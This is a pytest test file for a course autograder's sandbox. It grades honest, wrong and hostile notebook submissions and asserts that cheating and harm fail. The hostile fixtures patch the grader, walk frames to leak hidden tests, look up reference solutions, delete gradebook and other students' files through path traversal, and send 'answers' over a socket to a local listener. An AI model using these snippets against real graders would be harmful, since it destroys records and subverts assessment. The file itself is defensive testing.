"""`nnlessons grade`: student code cannot buy marks, harm the grader's files or leak the hidden tests.

A class kit of lessons 05 and 12 (hidden tests drawn at grading time, the class copy of the package)
grades honest, wrong and hostile submissions (issue 25): a grader monkey-patched from an answer
cell, an answer that walks the hidden test's frames and prints the running cell (In[-1]), stored
answers and the reference solution looked up, an answer that changes its input array, files outside
the submission deleted through ``../`` and by absolute path, a 5 MB print, a sleep past the timeout
and ``exit()``. Every route that did not solve scores 0, honest work its full marks; no file outside
the sandbox changes; each feedback page stays under a size cap and shows no hidden test and no
grader path. A copy of the kit, zipped and unpacked elsewhere, grades its own students. Needs
nbgrader; as root (CI) the kernels run as a uid of their own.
"""
import hashlib
import json
import os
import shutil
import socket
import sys
from pathlib import Path

import pytest
from lesson_list import LESSON_PATHS

import nnlessons
from nnlessons.course import editions

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = Path(nnlessons.__file__).resolve().parent
DATA = PACKAGE / "course" / "exercises" / "data"   # the checkers' data a submission tries to change
AS_ROOT = os.geteuid() == 0
FEEDBACK_LIMIT = 1_000_000   # characters of one feedback page: a lesson's is about 0.26 MB


def _solutions():
    found = {}
    for path in LESSON_PATHS:
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
            meta = editions.nbgrader_meta(cell)
            if meta.get("solution"):
                found[meta["grade_id"]] = "\n".join(
                    line for line in editions.cell_text(cell).splitlines()
                    if line.strip() not in (editions.BEGIN_SOLUTION, editions.END_SOLUTION))
    return found


SOLUTIONS = _solutions()
STUB = "# YOUR CODE HERE\nraise NotImplementedError()"

PATCH_GRADER = '''\
import sys, types
import numpy as np
from nnlessons.course import exercises
exercises.grade = exercises.check = lambda *args, **kwargs: None
fake = types.ModuleType("nnlessons.course.exercises")
fake.grade = fake.check = lambda *args, **kwargs: None
sys.modules["nnlessons.course.exercises"] = fake
np.allclose = np.array_equal = lambda *args, **kwargs: True
'''

LOOK_UP_SOLUTION = '''\
import contextlib, glob, io, json
from nnlessons.course import editions, exercises, lessons
found = io.StringIO()
with contextlib.redirect_stdout(found):
    try:
        exercises.solution("{name}")
    except Exception:
        pass
texts = [found.getvalue(), editions.reference_solution("{lesson}", "{name}")]
for path in (glob.glob(str(lessons.notebooks_dir()) + "/{lesson}_*.ipynb")
             + glob.glob("{repo}/notebooks/{lesson}_*.ipynb") + glob.glob("{kit}/instructor/*.ipynb")
             + glob.glob("{kit}/course/source/*/*.ipynb") + glob.glob("../**/*.ipynb", recursive=True)):
    try:
        texts += ["".join(c["source"]) for c in json.load(open(path))["cells"]]
    except Exception:
        pass
texts = [t for t in texts if "{marker}" in t]
print("SOLUTION-FOUND" if texts else "SOLUTION-NOT-FOUND")
{fallback}
if texts:
    exec(texts[0].replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''

STORED_ANSWER = '''\
from nnlessons.course import exercises
def count_updates(n_examples, batch_size, epochs):
    for case in exercises.exercise("count_updates")["cases"]:
        if case["args"]["list"] == [n_examples, batch_size, epochs]:
            return case["expected"]
    return 1
'''

PEEK = '''\
import sys
def count_updates(n_examples, batch_size, epochs):
    """Walks the caller's frames and reads the running cell (In[-1]) for anything to copy."""
    frame, scopes = sys._getframe(1), []
    while frame is not None:
        scopes.append(dict(frame.f_locals))
        frame = frame.f_back
    running = get_ipython().user_ns["In"][-1]
    print(running)                                   # tries to leak the hidden cell into feedback
    for value in [v for scope in scopes for v in scope.values()] + [running]:
        if isinstance(value, str) and "def count_updates" in value and "reference" in value:
            found = {}
            exec(value, found)
            return found["count_updates"](n_examples, batch_size, epochs)
    for scope in scopes:
        for key in ("expected", "want", "target", "answer"):
            if isinstance(scope.get(key), int):
                return scope[key]
    return 0
'''

IN_PLACE_SIGMOID = '''\
def sigmoid(z):
    np.copyto(z, 0.5 * (1.0 + np.tanh(0.5 * z)))   # the right values, written over the input
    return z
'''

HARM = '''\
import glob, os
targets = {absolute}
for depth in range(1, 9):
    for name in ("gradebook.db", "course/gradebook.db", "nbgrader_config.py",
                 "submitted/alice/lesson_05/05_gradient_descent.ipynb"):
        targets.append("../" * depth + name)
harmed = []
for target in targets:
    try:
        if os.path.exists(target):
            with open(target, "a") as f:
                f.write("harm")
            harmed.append(target)
    except OSError:
        pass
    try:
        os.remove(target)
        harmed.append(target)
    except OSError:
        pass
seen = [p for p in glob.glob("../**/*.ipynb", recursive=True) + glob.glob("*.ipynb")
        if "HIDDEN" in open(p, errors="replace").read()]
import socket
sent = 0
try:  # a listener the grader's test opened on this machine: the answers could leave this way
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"answers")
        sent = 1
except OSError:
    pass
print("HARMED:", len(harmed), "HIDDEN-NOTEBOOKS-SEEN:", len(seen), "SENT:", sent,
      "INTERFACES:", sorted(name for _, name in socket.if_nameindex()))
print("x" * 5_000_000)
'''


def hostile(kit, canary, port):
    """{student: {grade_id: answer cell}}: alice honest, bob wrong and a stub, mallory patches the
    grader and walks the hidden test's frames and running cell, eve looks answers up and writes over
    her input, trudy attacks the grader's files, prints 5 MB, sleeps past the timeout (in a right
    count_updates) and calls exit() (her sgd_step itself is right: it keeps its mark)."""
    kit = str(kit)
    absolute = [f"{kit}/course/gradebook.db",
                f"{kit}/course/source/lesson_05/05_gradient_descent.ipynb",
                f"{kit}/course/submitted/alice/lesson_05/05_gradient_descent.ipynb",
                f"{kit}/class/nnlessons/course/exercises/hidden.py",
                str(DATA / "05.json"), str(canary)]
    lookup = dict(repo=ROOT, kit=kit)
    return {
        "alice": {},
        "bob": {"sgd_step": "def sgd_step(params, grads, lr):\n    for k in params:\n"
                            "        params[k] -= grads[k]\n",
                "count_updates": STUB,
                "batch_race": 'batch_race = {"prediction": "small", "reason": "b"}'},  # wrong reason
        "mallory": {"sgd_step": PATCH_GRADER + "def sgd_step(params, grads, lr):\n    pass\n",
                    "count_updates": PEEK,
                    "batch_race": 'batch_race = {"prediction": "large", "reason": "a"}'},
        "eve": {"sgd_step": LOOK_UP_SOLUTION.format(
                    name="sgd_step", lesson="05", marker="def sgd_step", **lookup,
                    fallback="def sgd_step(params, grads, lr):\n    pass"),
                "count_updates": STORED_ANSWER,
                "batch_race": LOOK_UP_SOLUTION.format(
                    name="batch_race", lesson="05", marker='batch_race = {"prediction": "', **lookup,
                    fallback='batch_race = {"prediction": "large", "reason": "d"}'),
                "sigmoid": IN_PLACE_SIGMOID,
                "undo_which": LOOK_UP_SOLUTION.format(
                    name="undo_which", lesson="12", marker='undo_which = {"prediction": "', **lookup,
                    fallback='undo_which = {"prediction": "first", "reason": "c"}')},
        "trudy": {"sgd_step": HARM.format(absolute=absolute, port=port) + SOLUTIONS["sgd_step"],
                  "count_updates": "import time\n" + SOLUTIONS["count_updates"].replace(
                      '"""\n', '"""\n    time.sleep(600)\n', 1),
                  "batch_race": 'exit()\nbatch_race = {"prediction": ..., "reason": ...}'},  # unanswered
    }


# student -> the exercises that must score 0 (every other one scores its full mark)
EXPECTED_ZERO = {"alice": set(), "bob": {"sgd_step", "count_updates", "batch_race"},
                 "mallory": {"sgd_step", "count_updates", "batch_race"},
                 "eve": {"sgd_step", "count_updates", "batch_race", "sigmoid", "undo_which"},
                 "trudy": {"count_updates", "batch_race"}}
LESSONS = {"05": ["sgd_step", "count_updates", "batch_race"], "12": ["sigmoid", "undo_which"]}
# who submits what: every route on lesson 05; on lesson 12 (twice as slow to run) honest work and
# the in-place answer and lookups
SUBMITTED = {"05": ["alice", "bob", "mallory", "eve", "trudy"], "12": ["alice", "eve"]}


def submit(kit, student, answers, lesson):
    path, = (Path(kit) / "student").glob(f"{lesson}_*.ipynb")
    nb = json.loads(path.read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        name = editions.nbgrader_meta(cell).get("grade_id")
        if editions.nbgrader_meta(cell).get("solution"):
            editions.set_text(cell, answers.get(name, SOLUTIONS[name]))
    folder = Path(kit) / "course" / "submitted" / student / f"lesson_{lesson}"
    folder.mkdir(parents=True)
    (folder / path.name).write_text(json.dumps(nb), encoding="utf-8")


def digest(folder, skip=()):
    """{relative path: sha256} of every file under ``folder`` outside the ``skip`` subfolders."""
    out = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_file() and "__pycache__" not in rel and not any(
                rel == s or rel.startswith(s + "/") for s in skip):
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def cell_scores(kit, student, assignment):
    """{exercise: auto score of its test cell} of a submission, from the kit's gradebook."""
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{Path(kit) / 'course' / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission(assignment, student)
        return {g.name.removesuffix("_test"): g.auto_score for nb in submission.notebooks
                for g in nb.grades if g.name.endswith("_test")}


def students(kit):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{Path(kit) / 'course' / 'gradebook.db'}") as gradebook:
        return {s.id for s in gradebook.students}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    pytest.importorskip("nbgrader", reason="nbgrader is part of the test extra")
    if not AS_ROOT:   # CI grades as root; as another user the kernel can read what that user can
        pytest.skip("the grading sandbox holds against these routes as root only (README, "
                    "'The grading sandbox'); run as root, as CI does")
    from nnlessons.course.grading import grade_kit
    base = tmp_path_factory.mktemp("grading")
    kit = editions.make_course(base / "kit", lessons=list(LESSONS), timeout=20)["course"].parent
    canary_dir = base / "canary"
    canary_dir.mkdir()
    canary_dir.chmod(0o777)
    canary = canary_dir / "world-writable.txt"
    canary.write_text("untouched")
    canary.chmod(0o666)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    answers = hostile(kit, canary, listener.getsockname()[1])
    for lesson, who in SUBMITTED.items():
        for student in who:
            submit(kit, student, answers[student], lesson)
    protected = ("course/gradebook.db", "course/autograded", "course/feedback")
    before = {"kit": digest(kit, skip=protected), "data": digest(DATA),
              "canary": digest(canary_dir)}
    log = []
    results = grade_kit(kit, log=lambda line: log.append(line) or print(line, file=sys.stderr))
    after = {"kit": digest(kit, skip=protected), "data": digest(DATA),
             "canary": digest(canary_dir)}
    try:
        listener.accept()
        reached = True
    except BlockingIOError:
        reached = False
    listener.close()
    return {"kit": kit, "results": results, "before": before, "after": after, "base": base,
            "reached": reached, "log": log}


@pytest.mark.slow
def test_every_route_that_did_not_solve_scores_zero_and_honest_work_full_marks(graded):
    for lesson, who in SUBMITTED.items():
        for student in who:
            zero, names = EXPECTED_ZERO[student], LESSONS[lesson]
            scores = cell_scores(graded["kit"], student, f"lesson_{lesson}")
            expected = {name: 0.0 if name in zero else 1.0 for name in names}
            assert scores == expected, f"{student}, lesson {lesson}: {scores}"


@pytest.mark.slow
def test_no_file_outside_the_sandbox_changed(graded):
    assert graded["after"] == graded["before"]
    text = "".join(p.read_text(encoding="utf-8") for p in
                   (graded["kit"] / "course" / "autograded" / "trudy" / "lesson_05").glob("*.ipynb"))
    assert "HARMED: 0 HIDDEN-NOTEBOOKS-SEEN: 0 SENT: 0 INTERFACES: ['lo']" in text
    assert not graded["reached"]  # no connection reached the grader's listener
    assert "no network" in graded["log"][0]
    assert students(graded["kit"]) == set(EXPECTED_ZERO)


@pytest.mark.slow
def test_feedback_is_small_and_shows_no_hidden_test_and_no_grader_path(graded):
    from nnlessons.course.grading.feedback import SECRET
    from nnlessons.course.grading.sandbox import hidden_strings
    kit = graded["kit"]
    secrets = [s for lesson in LESSONS for s in hidden_strings(kit / "course" / "source" / f"lesson_{lesson}")
               if SECRET.fullmatch(s) or len(s) > 60 or s.startswith(("seed =", "sha ="))]
    assert any(s.startswith("seed = 0x") for s in secrets) and any(SECRET.fullmatch(s) for s in secrets)
    paths = [str(kit), str(graded["base"]), "nnlessons-grade-", "nnlessons-kernel-", "site-packages",
             sys.prefix, str(ROOT), str(Path.home()) + "/"]
    pages = sorted((kit / "course" / "feedback").rglob("*.html"))
    assert len(pages) == sum(len(who) for who in SUBMITTED.values())
    for page in pages:
        text = page.read_text(encoding="utf-8")
        student = page.relative_to(kit / "course" / "feedback").parts[0]
        assert len(text) < FEEDBACK_LIMIT, (page, len(text))
        for secret in secrets:
            assert secret not in text, (page, secret[:80])
        assert "var element" not in text and "_nnlessons_hidden_test" not in text, page
        outputs = json.dumps([cell.get("outputs", []) for path in (
            kit / "course" / "autograded" / student / page.parent.name).glob("*.ipynb")
            for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]])
        for path in paths:    # eve's and trudy's own code names the kit: the page shows it, no output may
            assert path not in outputs, (page, path)
            if student in ("alice", "bob", "mallory"):
                assert path not in text, (page, path)
    bob = (kit / "course" / "feedback" / "bob" / "lesson_05" / "05_gradient_descent.html").read_text()
    assert "a hidden case failed: sgd_step" in bob
    trudy = (kit / "course" / "feedback" / "trudy" / "lesson_05" / "05_gradient_descent.html").read_text()
    assert "output cut" in trudy and "x" * 20_000 not in trudy


@pytest.mark.slow
def test_a_zipped_kit_unpacked_elsewhere_grades_its_own_students(graded, tmp_path):
    from nnlessons.course.grading import grade_kit
    kit = graded["kit"]
    original = digest(kit)
    archive = shutil.make_archive(str(tmp_path / "kit"), "zip", kit)
    moved = tmp_path / "elsewhere" / "kit"
    shutil.unpack_archive(archive, moved)
    shutil.rmtree(moved / "course" / "submitted")
    submit(moved, "zoe", {}, "05")
    results = grade_kit(moved, log=lambda line: None)
    assert [(r["student"], r["assignment"], r["score"]) for r in results] == [("zoe", "lesson_05", 3.0)]
    assert digest(kit) == original                      # the original kit never saw zoe
    assert cell_scores(moved, "zoe", "lesson_05") == {n: 1.0 for n in LESSONS["05"]}
    assert cell_scores(moved, "alice", "lesson_05") == {n: 1.0 for n in LESSONS["05"]}  # kept


@pytest.mark.slow
def test_the_kits_exchange_releases_takes_a_submission_and_collects_it(graded, tmp_path):
    import getpass
    import subprocess
    kit = tmp_path / "kit"
    shutil.copytree(graded["kit"], kit)
    editions.run_nbgrader(kit / "course", "release_assignment", "lesson_05", "--force")
    home = tmp_path / "student-home"
    home.mkdir()
    for step in ("fetch_assignment", "submit"):   # what a student on the same machine runs
        done = subprocess.run([sys.executable, "-m", "nbgrader", step, "lesson_05", "--course",
                               "nnlessons", f"--Exchange.root={kit / 'exchange'}"],
                              cwd=home, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr[-2000:]
    editions.run_nbgrader(kit / "course", "collect", "lesson_05")
    collected = kit / "course" / "submitted" / getpass.getuser() / "lesson_05"
    assert (collected / "05_gradient_descent.ipynb").is_file()


# --- the pieces, without a kernel ---------------------------------------------------------------
def test_feedback_filter_cuts_scrubs_and_keeps_what_decides_the_score():
    pytest.importorskip("nbgrader", reason="nbgrader is part of the test extra")
    import nbformat
    from nnlessons.course.grading.feedback import SafeOutput, hidden_secrets, scrub_text
    secrets = hidden_secrets(["    seed = 0x0123456789abcdef0123456789abcdef", "    x = 1"])
    assert secrets == ["seed = 0x0123456789abcdef0123456789abcdef", "0x0123456789abcdef0123456789abcdef"]
    assert scrub_text("at /srv/kit/course/a.py: 0x0123456789abcdef0123456789abcdef",
                      {"/srv/kit": "<kit>"}, secrets) == "at <kit>/course/a.py: [hidden]"
    v4 = nbformat.v4
    student = v4.new_code_cell("print('x' * 5_000_000)", metadata={"nbgrader": {"solution": True}})
    student.outputs = [v4.new_output("stream", name="stdout", text="x" * 5_000_000),
                       v4.new_output("error", ename="ValueError", evalue="bad",
                                     traceback=["File /srv/kit/a.py, line 1", "ValueError: bad"])]
    test = v4.new_code_cell("check()", metadata={"nbgrader": {"grade": True, "solution": False}})
    test.outputs = [v4.new_output("stream", name="stderr", text="warning from /srv/kit\n"),
                    v4.new_output("error", ename="AssertionError",
                                  evalue="a hidden case failed: f (wrong values)",
                                  traceback=["    seed = 0x0123456789abcdef0123456789abcdef", "..."])]
    quiz = v4.new_code_cell("quiz")
    quiz.outputs = [v4.new_output("display_data", data={
        "application/javascript": "var element = $('#x');", "text/plain": "1. a question"})]
    nb = v4.new_notebook(cells=[student, test, quiz])
    SafeOutput(cap=1000, scrub={"/srv/kit": "<kit>"}).preprocess(nb, {})
    assert len(student.outputs[0].text) < 1100 and "output cut" in student.outputs[0].text
    assert "/srv/kit" not in json.dumps(nb) and "0123456789abcdef" not in json.dumps(nb)
    assert [o.output_type for o in test.outputs] == ["stream", "error"]   # still scores 0
    assert test.outputs[0].name == "stderr"
    assert test.outputs[1].traceback == ["AssertionError: a hidden case failed: f (wrong values)"]
    assert quiz.outputs[0].data == {"text/plain": "1. a question"}


def test_submissions_are_found_per_student_and_assignment(tmp_path):
    from nnlessons.course.grading import grade_kit, submissions
    for student, assignment in [("bo", "lesson_05"), ("al", "lesson_05"), ("al", "lesson_12")]:
        (tmp_path / "course" / "submitted" / student / assignment).mkdir(parents=True)
    assert submissions(tmp_path) == [("al", "lesson_05"), ("al", "lesson_12"), ("bo", "lesson_05")]
    assert submissions(tmp_path, assignment="lesson_05", student="bo") == [("bo", "lesson_05")]
    with pytest.raises(FileNotFoundError, match="expected a class kit"):
        grade_kit(tmp_path)


def test_the_kits_nbgrader_config_finds_its_root_from_its_own_place(tmp_path):
    config = editions.NBGRADER_CONFIG.format(stub="raise NotImplementedError()", timeout=5)
    assert str(ROOT) not in config and "/tmp" not in config
    path = tmp_path / "moved" / "course" / "nbgrader_config.py"
    path.parent.mkdir(parents=True)
    path.write_text(config)

    class Section(dict):
        __getattr__ = dict.__getitem__

        def __setattr__(self, key, value):
            self[key] = value

    c = type("Config", (), {})()
    for name in ("CourseDirectory", "Exchange", "ClearSolutions", "Execute"):
        setattr(c, name, Section())
    exec(compile(config, str(path), "exec"), {"get_config": lambda: c, "__file__": str(path)})
    assert c.CourseDirectory["root"] == str(path.parent)
    assert c.Exchange["root"] == str(tmp_path / "moved" / "exchange")


def test_past_the_cap_stdout_goes_but_a_stderr_stream_and_every_verdict_stay():
    pytest.importorskip("nbgrader", reason="nbgrader is part of the test extra")
    import nbformat
    from nnlessons.course.grading.feedback import SafeOutput
    v4 = nbformat.v4
    cell = v4.new_code_cell("check()", metadata={"nbgrader": {"grade": True, "solution": False}})
    cell.outputs = ([v4.new_output("stream", name="stdout", text="y" * 400) for _ in range(50)]
                    + [v4.new_output("stream", name="stderr", text="e" * 400)] * 3
                    + [v4.new_output("error", ename="AssertionError",
                                     evalue="a hidden case failed: f (wrong values)", traceback=[])])
    SafeOutput(cap=1000).preprocess(v4.new_notebook(cells=[cell]), {})
    kinds = [(o.output_type, o.get("name")) for o in cell.outputs]
    assert kinds == [("stream", "stdout")] * 3 + [("stream", "stderr"), ("error", None)]
    assert cell.outputs[-1].evalue == "a hidden case failed: f (wrong values)"
    assert sum(len(o.get("text", "")) for o in cell.outputs) < 1300


def test_the_grade_command_says_what_it_expected_when_the_folder_is_no_kit(tmp_path, capsys):
    from nnlessons.course import cli
    assert cli.main(["grade", str(tmp_path)]) == 1
    assert "expected a class kit" in capsys.readouterr().err
